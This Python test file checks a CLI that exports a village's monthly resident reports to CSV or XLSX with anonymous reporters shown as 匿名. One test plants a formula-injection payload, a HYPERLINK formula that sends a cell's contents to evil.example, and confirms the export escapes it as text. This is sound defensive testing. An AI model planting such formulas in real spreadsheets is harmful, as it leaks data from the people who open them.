"""`hemei reports export`: a month's reports as CSV or XLSX, anonymous reporters as 匿名."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from bot.spreadsheets import read_table
from storage.database import Database
from tests.factories import load_roster, person_by_phone
from village.clock import ManualClock
from village.geo import Datum
from village.people import Actor
from village.reports import GeoPoint, ReportDraft
from village.services import Services
from village.settings import VillageSettings


@pytest.fixture
async def filed(database: Database, clock: ManualClock, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    await load_roster(database, clock)
    alice = Actor.of(await person_by_phone(database, "13800000001"))
    wang = Actor.of(await person_by_phone(database, "13800000003"))
    async with database.transaction() as store:
        reports = Services(store, clock, VillageSettings()).reports
        here = GeoPoint(30.92, 121.47, Datum.WGS84)
        await reports.file(alice, ReportDraft("垃圾/环境卫生", "路边垃圾", anonymous=True, point=here))
        await reports.file(wang, ReportDraft("绿化", "树倒了", address="东河桥"))
    monkeypatch.setenv("HEMEI_DATABASE__URL", db_url)


@pytest.mark.usefixtures("filed")
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_writes_the_month_with_anonymous_reporters_hidden(tmp_path: Path, suffix: str) -> None:
    out = tmp_path / f"reports{suffix}"

    status = main(["reports", "export", "--village", "fx01", "--month", "2026-11", "--out", str(out)])

    table = read_table(out)
    assert status == 0
    assert table[0][:4] == ["编号", "类别", "状态", "反映人"]
    assert [row[:4] for row in table[1:]] == [["FX01-2611-0001", "垃圾/环境卫生", "已上报", "匿名"],
                                              ["FX01-2611-0002", "绿化", "已上报", "王大伯"]]
    assert "张阿婆" not in str(table)


@pytest.mark.usefixtures("filed")
def test_export_of_another_month_is_only_the_header(capsys: pytest.CaptureFixture[str]) -> None:
    status = main(["reports", "export", "--village", "FX01", "--month", "2026-10"])

    assert status == 0
    assert capsys.readouterr().out.strip().startswith("编号,类别,状态")


@pytest.mark.usefixtures("filed")
def test_export_refuses_a_bad_month_and_an_unknown_village(capsys: pytest.CaptureFixture[str]) -> None:
    bad_month = main(["reports", "export", "--village", "FX01", "--month", "2026-13"])
    unknown = main(["reports", "export", "--village", "ZZ99", "--month", "2026-11"])

    err = capsys.readouterr().err
    assert bad_month == 2
    assert unknown == 1
    assert "2026-13 不是月份（请写成 2026-11 这样）。" in err
    assert "没有代码为 ZZ99 的村。" in err  # names the village, not the chat's 抱歉，没有找到


@pytest.mark.usefixtures("filed")
async def test_export_keeps_a_formula_typed_by_a_resident_as_text(database: Database, clock: ManualClock,
                                                                  tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&B2,"点这里")'
    wang = Actor.of(await person_by_phone(database, "13800000003"))
    async with database.transaction() as store:
        await Services(store, clock, VillageSettings()).reports.file(wang, ReportDraft("绿化", formula,
                                                                                         address="@SUM(A1)"))
    out = tmp_path / "reports.xlsx"

    to_stdout = await asyncio.to_thread(main, ["reports", "export", "--village", "FX01", "--month", "2026-11"])
    to_file = await asyncio.to_thread(main, ["reports", "export", "--village", "FX01", "--month", "2026-11",
                                             "--out", str(out)])

    row = next(csv.reader(line for line in capsys.readouterr().out.splitlines() if "HYPERLINK" in line))
    cell = load_workbook(out).worksheets[0]["H4"]
    assert (to_stdout, to_file) == (0, 0)
    assert ("'" + formula, "'@SUM(A1)") == (row[7], row[8])
    assert (cell.data_type, cell.value) == ("s", "'" + formula)
